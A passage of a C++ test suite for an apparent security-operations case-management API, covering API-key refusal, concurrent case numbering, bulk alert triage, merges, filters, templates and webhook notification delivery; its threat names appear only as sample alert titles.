       R"({"policies":[{"severity":"high","ack_minutes":1,"resolve_minutes":2}]})"},
      {"GET", "/api/v1/case-templates", ""},
      {"POST", "/api/v1/case-templates", R"({"name":"x"})"},
      {"GET", "/api/v1/case-templates/1", ""},
      {"PUT", "/api/v1/case-templates/1", R"({"name":"y"})"},
      {"DELETE", "/api/v1/case-templates/1", ""},
      {"POST", "/api/v1/alerts/bulk", R"({"ids":[)" + a2 + R"(],"action":"ignore"})"},
      {"POST", "/api/v1/alerts/" + a2 + "/promote", "{}"},
      {"POST", "/api/v1/alerts/" + a2 + "/merge", R"({"case":"SOC-2026-001"})"},
  };
  for (const auto& call : calls) {
    std::vector<std::pair<std::string, std::string>> headers{
        {"Authorization", "Bearer " + soc.key}};
    if (call.target.ends_with("/attachments") && call.method == "POST") {
      headers.emplace_back("Content-Type", "application/octet-stream");
      headers.emplace_back("Content-Disposition", "attachment; filename=\"x.bin\"");
    } else if (!call.body.empty()) {
      headers.emplace_back("Content-Type", "application/json");
    }
    ExpectRefused(soc, ref, call.method + " " + call.target, 403,
                  [&] { return s.client().Request(call.method, call.target, call.body, headers); });
  }
  // X-API-Key is refused the same way.
  ExpectRefused(soc, ref, "X-API-Key", 403, [&] {
    return s.client().Request("GET", "/api/v1/cases", {}, {{"X-API-Key", soc.key}});
  });
}

// ===========================================================================
// Case numbers under concurrency.

TEST_CASE("Cases: 200 alerts promoted from 8 threads get SOC-2026-001 to 200, no gap, no duplicate",
          "[cases]") {
  Soc soc;
  TestServer& s = soc.s;
  std::string batch = "[";
  for (int i = 0; i < 200; ++i) batch += (i ? "," : "") + SimpleAlert(i, "medium");
  batch += "]";
  auto ingested = s.Post("/api/v1/ingest/generic", batch, soc.key);
  REQUIRE(ingested.status == 201);
  std::vector<std::string> alerts;
  auto ingested_doc = ParseJson(ingested.body);
  for (const auto& r : Member(ingested_doc, "results").GetArray()) alerts.push_back(Text(r, "id"));
  REQUIRE(alerts.size() == 200);

  constexpr int kThreads = 8;
  std::vector<std::vector<std::pair<int, std::string>>> results(kThreads);
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      HttpClient client(s.port());
      for (size_t i = static_cast<size_t>(t); i < alerts.size(); i += kThreads) {
        auto r = client.Request(
            "POST", "/api/v1/alerts/" + alerts[i] + "/promote", "{}",
            {{"Content-Type", "application/json"}, {"Authorization", "Bearer " + soc.ana}});
        results[static_cast<size_t>(t)].emplace_back(
            r.status,
            r.status == 201 ? JsonField(r.body, "number") : "alert " + alerts[i] + ": " + r.body);
      }
    });
  }
  for (auto& th : threads) th.join();

  std::multiset<std::string> numbers;
  for (const auto& per_thread : results) {
    for (const auto& [status, number] : per_thread) {
      INFO(number);
      CHECK(status == 201);
      numbers.insert(number);
    }
  }
  std::multiset<std::string> expected;
  for (int i = 1; i <= 200; ++i) expected.insert(fmt::format("SOC-2026-{:03d}", i));
  CHECK(numbers == expected);
  CHECK(s.QueryInt("SELECT COUNT(*) FROM cases") == 200);
  CHECK(s.QueryInt("SELECT COUNT(DISTINCT number) FROM cases") == 200);
  CHECK(s.QueryInt("SELECT MAX(seq) FROM cases WHERE year = 2026") == 200);
  CHECK(
      s.QueryInt("SELECT COUNT(*) FROM alerts WHERE status = 'imported' AND case_id IS NOT NULL") ==
      200);
  CHECK(s.QueryInt("SELECT COUNT(DISTINCT case_id) FROM alerts") == 200);
}

// ===========================================================================
// Bulk triage, re-fired alerts, reads and filters.

TEST_CASE("Cases: bulk triage is all-or-nothing and names the alert that blocks it", "[cases]") {
  Soc soc;
  TestServer& s = soc.s;
  std::vector<std::string> ids;
  for (int i = 1; i <= 6; ++i) ids.push_back(soc.Ingest(SimpleAlert(i)));

  auto ignored = ParseJson(soc.Ok(
      200, s.Post("/api/v1/alerts/bulk",
                  fmt::format(R"({{"ids":[{},{},{}],"action":"ignore"}})", ids[0], ids[1], ids[2]),
                  soc.ana)));
  REQUIRE(Member(ignored, "results").Size() == 3);
  for (const auto& r : Member(ignored, "results").GetArray()) CHECK(Text(r, "status") == "ignored");
  CHECK(s.QueryInt(
            fmt::format("SELECT COUNT(*) FROM alerts WHERE status = 'ignored' AND id IN ({},{},{})",
                        ids[0], ids[1], ids[2])) == 3);
  CHECK(
      s.QueryInt(
          "SELECT COUNT(*) FROM audit_log WHERE action = 'alert.update' AND actor = 'user:ana'") ==
      3);

  std::string first = JsonField(soc.Promote(ids[3], soc.ana), "number");
  CHECK(first == "SOC-2026-001");
  for (const char* action : {"ignore", "promote"}) {
    ExpectRefused(soc, first, std::string("bulk ") + action + " with an imported alert", 409,
                  [&] {
                    return s.Post("/api/v1/alerts/bulk",
                                  fmt::format(R"({{"ids":[{},{},{}],"action":"{}"}})", ids[4],
                                              ids[3], ids[5], action),
                                  soc.ana);
                  },
                  {"alert " + ids[3]});
  }
  ExpectRefused(soc, first, "bulk merge with an imported alert", 409,
                [&] {
                  return s.Post("/api/v1/alerts/bulk",
                                fmt::format(R"({{"ids":[{},{}],"action":"merge","case":"{}"}})",
                                            ids[4], ids[3], first),
                                soc.ana);
                },
                {"alert " + ids[3]});
  ExpectRefused(soc, first, "bulk with an unknown action", 422, [&] {
    return s.Post("/api/v1/alerts/bulk", fmt::format(R"({{"ids":[{}],"action":"delete"}})", ids[4]),
                  soc.ana);
  });
  ExpectRefused(soc, first, "bulk merge without a case", 422, [&] {
    return s.Post("/api/v1/alerts/bulk", fmt::format(R"({{"ids":[{}],"action":"merge"}})", ids[4]),
                  soc.ana);
  });

  // The refused bulk promote took no number: the next case is 002.
  auto promoted = ParseJson(
      soc.Ok(200, s.Post("/api/v1/alerts/bulk",
                         fmt::format(R"({{"ids":[{}],"action":"promote"}})", ids[4]), soc.ana)));
  CHECK(Text(Member(Item(Member(promoted, "results"), 0), "case"), "number") == "SOC-2026-002");
  auto merged = ParseJson(soc.Ok(
      200, s.Post("/api/v1/alerts/bulk",
                  fmt::format(R"({{"ids":[{}],"action":"merge","case":"{}"}})", ids[5], first),
                  soc.ana)));
  CHECK(Text(Item(Member(merged, "results"), 0), "status") == "imported");
  CHECK(Kinds(Timeline(soc, first)).back() == "alert_merged");
  auto c = ParseJson(soc.Case(first));
  REQUIRE(Member(c, "alerts").Size() == 2);
}

TEST_CASE("Cases: merging an alert brings its observables and writes a timeline event", "[cases]") {
  Soc soc;
  TestServer& s = soc.s;
  std::string a1 = soc.Ingest(kMalwareAlert);
  std::string ref = JsonField(soc.Promote(a1, soc.ana), "number");
  std::string a2 = soc.Ingest(R"({"source":"edr-prod","source_ref":"detection:8813:wks-051",
    "title":"Qakbot loader detected on wks-051","severity":"high",
    "observables":[{"type":"hostname","value":"wks-051"},{"type":"ip","value":"203.0.113.50","ioc":true}]})");
  s.clock().Advance(kMinute);
  auto merged = ParseJson(soc.Ok(
      200, s.Post("/api/v1/alerts/" + a2 + "/merge", R"({"case":")" + ref + R"("})", soc.ana)));
  CHECK(Text(merged, "number") == ref);
  auto c = ParseJson(soc.Case(ref));
  std::set<std::string> values;
  for (const auto& o : Member(c, "observables").GetArray()) values.insert(Text(o, "value"));
  CHECK(values == std::set<std::string>{"wks-042", "wks-051", "203.0.113.50"});
  auto events = Timeline(soc, ref);
  CHECK(events.back().kind == "alert_merged");
  CHECK(events.back().actor == "user:ana");
  CHECK(Has(events.back().body, "#" + a2));
  CHECK(Text(ParseJson(soc.Ok(200, s.Get("/api/v1/alerts/" + a2, soc.ana))), "status") ==
        "imported");
  // By id too.
  std::string a3 = soc.Ingest(SimpleAlert(3));
  soc.Ok(200,
         s.Post("/api/v1/alerts/" + a3 + "/merge", R"({"case":)" + Text(c, "id") + "}", soc.ana));
  CHECK(s.QueryInt("SELECT COUNT(*) FROM audit_log WHERE action = 'alert.merge'") == 2);
}

TEST_CASE(
    "Cases: an alert that fires again while in a case writes alert_refired on the case timeline",
    "[cases]") {
  Soc soc;
  TestServer& s = soc.s;
  std::string alert = soc.Ingest(kSuspiciousLoginAlert);
  std::string case_json = soc.Promote(alert, soc.ana);
  std::string ref = JsonField(case_json, "number");
  std::string case_id = JsonField(case_json, "id");
  s.clock().Advance(5 * kMinute);
  auto again = s.Post("/api/v1/ingest/generic", kSuspiciousLoginAlert, soc.key);
  REQUIRE(again.status == 200);
  CHECK(JsonField(again.body, "status") == "duplicate");
  CHECK(JsonField(again.body, "case") == case_id);
  auto events = Timeline(soc, ref);
  CHECK(events.back().kind == "alert_refired");
  CHECK(events.back().actor.rfind("apikey:", 0) == 0);
  CHECK(events.back().time == At(kTestEpochMs + 5 * kMinute));
  CHECK(Has(events.back().body, "2 occurrences"));
  // The alert stays in its case.
  CHECK(Text(ParseJson(soc.Ok(200, s.Get("/api/v1/alerts/" + alert, soc.ana))), "status") ==
        "imported");
}

TEST_CASE("Cases: a case reads by id or number; the list filters and paginates newest first",
          "[cases]") {
  Soc soc;
  TestServer& s = soc.s;
  std::string alert = soc.Ingest(kSuspiciousLoginAlert);
  std::string c1 = JsonField(soc.Promote(alert, soc.ana), "number");  // medium, open, tags identity
  std::string c2 =
      soc.Create(soc.ana, R"({"title":"Ransomware note on fileserver fs-02","severity":"critical",
    "tags":["ransomware"],"assignee":"ana"})");
  soc.Ok(200, s.Patch("/api/v1/cases/" + c2, R"({"status":"in_progress"})", soc.ana));
  std::string c3 =
      soc.Create(soc.ana, R"({"title":"Phishing wave against finance","severity":"medium",
    "tags":["phishing","finance"]})");
  soc.Ok(200, s.Post("/api/v1/cases/" + c3 + "/escalate", R"({"tier":"L2","reason":"many clicks"})",
                     soc.ana));
  std::string c4 = soc.Create(soc.bob, R"({"title":"Port scan from guest Wi-Fi","severity":"low",
    "tags":["scan"],"assignee":"bob"})");
  std::string c5 =
      soc.Create(soc.ana, R"({"title":"DNS tunnelling suspected on wks-17","severity":"high"})");
  REQUIRE(c1 == "SOC-2026-001");
  REQUIRE(c5 == "SOC-2026-005");

  CHECK(JsonField(soc.Ok(200, s.Get("/api/v1/cases/SOC-2026-002", soc.aud)), "title") ==
        "Ransomware note on fileserver fs-02");
  CHECK(JsonField(soc.Ok(200, s.Get("/api/v1/cases/2", soc.aud)), "number") == "SOC-2026-002");
  CHECK(s.Get("/api/v1/cases/SOC-2026-999", soc.aud).status == 404);
  CHECK(s.Get("/api/v1/cases/999", soc.aud).status == 404);
  CHECK(s.Get("/api/v1/cases/SOC-2026-001/timeline", soc.aud).status == 200);

  auto list = [&](const std::string& query, const std::string& token) {
    return CaseNumbers(soc.Ok(200, s.Get("/api/v1/cases" + query, token)));
  };
  using V = std::vector<std::string>;
  CHECK(list("", soc.aud) == V{c5, c4, c3, c2, c1});
  CHECK(list("?status=in_progress", soc.aud) == V{c2});
  CHECK(list("?status=open,escalated", soc.aud) == V{c5, c4, c3, c1});
  CHECK(list("?status=open&status=escalated", soc.aud) == V{c5, c4, c3, c1});
  CHECK(list("?tier=L2", soc.aud) == V{c3});
  CHECK(list("?tier=L1", soc.aud) == V{c5, c4, c2, c1});
  CHECK(list("?severity=high", soc.aud) == V{c5, c3});  // c3 raised to high by its escalation
  CHECK(list("?severity=critical", soc.aud) == V{c2});
  CHECK(list("?assignee=me", soc.ana) == V{c2});
  CHECK(list("?assignee=me", soc.bob) == V{c4});
  CHECK(list("?assignee=bob", soc.aud) == V{c4});
  CHECK(list("?assignee=none", soc.aud) == V{c5, c3, c1});
  CHECK(list("?tag=phishing", soc.aud) == V{c3});
  CHECK(list("?tag=identity", soc.aud) == V{c1});
  CHECK(list("?q=ransomware", soc.aud) == V{c2});
  CHECK(list("?q=wks", soc.aud) == V{c5});
  CHECK(list("?severity=medium&tier=L1", soc.aud) == V{c1});
  CHECK(list("?status=closed", soc.aud).empty());

  // Pages of two, newest first, with a cursor.
  auto page1 = soc.Ok(200, s.Get("/api/v1/cases?limit=2", soc.aud));
  CHECK(CaseNumbers(page1) == V{c5, c4});
  std::string cursor = JsonField(page1, "next_cursor");
  REQUIRE(cursor != "null");
  auto page2 = soc.Ok(200, s.Get("/api/v1/cases?limit=2&cursor=" + cursor, soc.aud));
  CHECK(CaseNumbers(page2) == V{c3, c2});
  auto page3 = soc.Ok(
      200, s.Get("/api/v1/cases?limit=2&cursor=" + JsonField(page2, "next_cursor"), soc.aud));
  CHECK(CaseNumbers(page3) == V{c1});
  CHECK(JsonField(page3, "next_cursor") == "null");

  // Bad filters are 400.
  for (const char* bad : {"?status=bogus", "?tier=L4", "?severity=urgent", "?sla_breached=yes",
                          "?limit=0", "?cursor=abc"}) {
    INFO(bad);
    CHECK(s.Get(std::string("/api/v1/cases") + bad, soc.aud).status == 400);
  }
}

// ===========================================================================
// Templates.

TEST_CASE("Cases: the sample templates load as a manager, list, update and delete", "[cases]") {
  Soc soc;
  TestServer& s = soc.s;
  for (const char* name : {"phishing", "malware-on-host", "suspicious-login"}) {
    INFO(name);
    auto sample = ParseJson(SampleTemplate(name));
    CHECK(Text(sample, "name") == name);
    REQUIRE(Member(sample, "tasks").Size() >= 7);
    for (const auto& t : Member(sample, "tasks").GetArray()) {
      CHECK_FALSE(Text(t, "title").empty());
      CHECK(Text(t, "description").size() > 40);
    }
    auto created =
        ParseJson(soc.Ok(201, s.Post("/api/v1/case-templates", SampleTemplate(name), soc.mia)));
    CHECK(Text(created, "name") == name);
    CHECK(Text(created, "severity") == Text(sample, "severity"));
    CHECK(Member(created, "tasks").Size() == Member(sample, "tasks").Size());
  }
  auto list = ParseJson(soc.Ok(200, s.Get("/api/v1/case-templates", soc.ana)));
  std::vector<std::string> names;
  for (const auto& t : Member(list, "templates").GetArray()) names.push_back(Text(t, "name"));
  CHECK(names == std::vector<std::string>{"malware-on-host", "phishing", "suspicious-login"});
  CHECK(s.Post("/api/v1/case-templates", SampleTemplate("phishing"), soc.mia).status == 409);

  std::string id = Text(Item(Member(list, "templates"), 1), "id");
  auto updated = ParseJson(soc.Ok(
      200,
      s.Put("/api/v1/case-templates/" + id,
            R"({"name":"phishing","severity":"high","tasks":[{"title":"Only task"}]})", soc.mia)));
  CHECK(Text(updated, "severity") == "high");
  CHECK(Member(updated, "tasks").Size() == 1);
  std::string ref = JsonField(
      soc.Promote(soc.Ingest(kPhishingAlert), soc.ana, R"({"template":"phishing"})"), "number");
  CHECK(TaskIds(soc, ref).size() == 1);
  CHECK(JsonField(soc.Case(ref), "severity") == "high");

  CHECK(s.Delete("/api/v1/case-templates/" + id, soc.mia).status == 204);
  CHECK(s.Get("/api/v1/case-templates/" + id, soc.ana).status == 404);
  std::string spare = soc.Ingest(SimpleAlert(9));
  ExpectRefused(soc, "", "promote with a deleted template", 422,
                [&] {
                  return s.Post("/api/v1/alerts/" + spare + "/promote",
                                R"({"template":"phishing"})", soc.ana);
                },
                {"phishing"});
  CHECK(
      s.QueryInt(
          "SELECT COUNT(*) FROM audit_log WHERE action LIKE 'template.%' AND actor = 'user:mia'") ==
      5);
}

// ===========================================================================
// Notifications delivered over HTTP to a webhook receiver started in the test.

TEST_CASE("Cases: an SLA breach notification is delivered once to the webhook receiver",
          "[cases][notify]") {
  WebhookReceiver receiver;
  Soc soc([&](Config& c) {
    c.webhook_urls = HookUrl(receiver.port());
    c.sla_check_interval_ms = 0;
  });
  TestServer& s = soc.s;
  std::string alert = soc.Ingest(kBeaconingAlert);
  const std::string ref = JsonField(soc.Promote(alert, soc.ana), "number");
  s.clock().Advance(31 * kMinute);
  auto check = s.app().RunSlaCheck();
  REQUIRE(check.ok());
  REQUIRE(check->ack_breaches == 1);
  s.app().DeliverOutbox();

  auto hooks = receiver.received("case.sla_breached");
  REQUIRE(hooks.size() == 1);
  CHECK(hooks[0].method == "POST");
  CHECK(hooks[0].target == "/hooks/soc");
  CHECK(hooks[0].content_type == "application/json");
  auto payload = ParseJson(hooks[0].body);
  CHECK(Text(payload, "event") == "case.sla_breached");
  CHECK(Text(payload, "case") == ref);
  CHECK(Text(payload, "severity") == "high");
  CHECK(Has(Text(payload, "reason"), "acknowledge"));
  CHECK(s.QueryInt("SELECT COUNT(*) FROM outbox WHERE event = 'case.sla_breached' AND delivered_at "
                   "IS NOT NULL") == 1);

  // Delivered means done: later passes and checks send nothing more.
  s.clock().Advance(10 * kMinute);
  REQUIRE(s.app().RunSlaCheck().ok());
  s.app().DeliverOutbox();
  CHECK(receiver.received("case.sla_breached").size() == 1);
}

TEST_CASE(
    "Cases: a notification survives a restart while the receiver is down and is delivered once",
    "[cases][notify]") {
  uint16_t port = 0;
  {
    WebhookReceiver probe;  // a free loopback port, then nothing listens there
    port = probe.port();
  }
  Soc soc([&](Config& c) {
    c.webhook_urls = HookUrl(port);
    c.sla_check_interval_ms = 0;
  });
  TestServer& s = soc.s;
  std::string ref =
      soc.Create(soc.ana, R"({"title":"Mailbox rule forwarding to an external address"})");
  soc.Ok(200, s.Post("/api/v1/cases/" + ref + "/escalate",
                     R"({"tier":"L2","reason":"exfiltration of mail"})", soc.ana));
  REQUIRE(s.QueryInt("SELECT COUNT(*) FROM outbox WHERE event = 'case.escalated'") == 1);

  CHECK(s.app().DeliverOutbox() == 0);
  CHECK(s.QueryInt("SELECT attempts FROM outbox WHERE event = 'case.escalated'") > 0);
  CHECK(s.QueryInt("SELECT delivered_at IS NULL FROM outbox WHERE event = 'case.escalated'") == 1);
  CHECK(s.QueryInt("SELECT last_error IS NOT NULL FROM outbox WHERE event = 'case.escalated'") ==
        1);

  s.Restart();
  CHECK(s.QueryInt("SELECT delivered_at IS NULL FROM outbox WHERE event = 'case.escalated'") == 1);
  WebhookReceiver receiver(port);
  // Within the backoff it waits.
  CHECK(s.app().DeliverOutbox() == 0);
  CHECK(receiver.received("case.escalated").empty());

  s.clock().Advance(2 * kHour);  // past the longest backoff
  s.app().DeliverOutbox();
  auto hooks = receiver.received("case.escalated");
  REQUIRE(hooks.size() == 1);
  CHECK(JsonField(hooks[0].body, "case") == ref);
  CHECK(JsonField(hooks[0].body, "reason") == "exfiltration of mail");
  CHECK(s.QueryInt("SELECT delivered_at IS NOT NULL FROM outbox WHERE event = 'case.escalated'") ==
        1);
  CHECK(s.app().DeliverOutbox() == 0);
  CHECK(receiver.received("case.escalated").size() == 1);
}

}  // namespace
}  // namespace wf::test
